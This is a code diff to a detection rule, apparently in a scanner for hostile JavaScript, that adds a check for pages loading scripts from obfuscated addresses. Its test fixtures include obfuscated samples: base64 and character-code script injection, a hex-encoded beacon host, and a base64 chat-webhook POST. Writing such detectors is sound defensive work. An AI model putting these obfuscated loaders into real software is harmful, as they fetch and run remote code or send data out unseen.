@@ -1,4 +1,4 @@
-import { defineRule, oddTargetOf, sinkSays, step, stepsOf } from '../src/define.js';
+import { beacons, defineRule, fixedAddressIn, oddTargetOf, sinkSays, step, stepsOf } from '../src/define.js';
 import type { FileContext } from '../src/types.js';
 import { hostOf, oddAddress } from '../src/vocabulary/services.js';
 
@@ -17,9 +17,10 @@ export default defineRule({
       token: 'Writes to a repository or a note with a token that stands in its code',
       contacted: 'Contacts {address}, fixed in its code',
       hidden: 'Decodes the address that it contacts: {address}',
+      script: 'Puts a script into the page whose address it decodes: {address}',
     },
-    behaviours: { hidden: 'obfuscation' },
-    bits: { token: 11.5, contacted: 4, hidden: 6 },
+    behaviours: { hidden: 'obfuscation', script: 'execution' },
+    bits: { token: 11.5, contacted: 4, hidden: 6, script: 13.5 },
   },
   examples: {
     flags: [
@@ -37,11 +38,23 @@ export default defineRule({
         code: `const http = require('http');\nfunction tell(host, text) {\n  host = Buffer.from(host, 'hex').toString();\n  http.get({ host, path: '/' + text });\n}\ntell('3230332e302e3131332e39', 'up');`,
       },
       {
+        title: 'a page is given a script from an address in base64',
+        code: `if (typeof document !== 'undefined') {\n  const s = document.createElement('script');\n  s.async = true;\n  s.src = atob('aHR0cHM6Ly9hc3NldHMuaW52YWxpZC9hLmpz');\n  (document.head || document.body).appendChild(s);\n}`,
+      },
+      {
+        title: 'one is put together from numbers',
+        code: `const at = [104, 116, 116, 112, 115, 58, 47, 47, 97, 46, 105, 110, 118, 97, 108, 105, 100, 47, 120, 46, 106, 115];\nconst tag = document.createElement('script');\ntag.setAttribute('src', String.fromCharCode(...at));\ndocument.body.append(tag);`,
+      },
+      {
         title: 'the address of a chat webhook stands there in base64',
         code: `const to = atob('aHR0cHM6Ly9kaXNjb3JkLmNvbS9hcGkvd2ViaG9va3MvMS94');\nfetch(to, { method: 'POST', body: 'hi' });`,
       },
     ],
     passes: [
+      {
+        title: 'a loader of a script writes its address down, and decodes something else',
+        code: `const s = document.createElement('script');\nconst key = atob('YWJj');\ns.src = 'https://maps.invalid/api.js?key=' + key;\ndocument.head.appendChild(s);`,
+      },
       {
         title: 'what is sent to the own service was encoded',
         code: `fetch('https://api.invalid/v1', { method: 'POST', body: Buffer.from('7b7d', 'hex').toString() });`,
@@ -60,6 +73,7 @@ export default defineRule({
     ],
   },
   file(context) {
+    hiddenScript(context);
     for (const call of context.calls('network')) {
       const texts = call.args.flatMap(arg => context.textsWithin(arg));
       if (texts.some(text => WRITES_TO.test(text)) && texts.some(text => TOKEN.test(text))) {
@@ -89,6 +103,26 @@ export default defineRule({
     }
   },
 });
+
+/** Loaders of scripts write down where from, or are told. */
+function hiddenScript(context: FileContext): void {
+  const isLoader = context
+    .named(/(?:^|\.)createElement$/)
+    .some(({ args }) => args[0] && context.textsOf(args[0]).some(text => /^script$/i.test(text)));
+  if (!isLoader) return;
+  for (const { node, value, name } of beacons(context)) {
+    const address = name === 'src' ? fixedAddressIn(context.textsOf(value)) : undefined;
+    if (address === undefined || isWritten(context, address)) continue;
+    const decoded = context.labelsOf(value).find(({ kind }) => kind === 'decoded' || kind === 'decrypted');
+    if (!decoded) continue;
+    context.report({
+      messageId: 'script',
+      data: { address },
+      chain: [...stepsOf(decoded), step('sink', 'has the page load it as a script', context.file, node)],
+    });
+    return;
+  }
+}
 
 /** True for an address that can be read in the file: what was decoded beside it is something else. */
 function isWritten({ file }: FileContext, address: string): boolean {
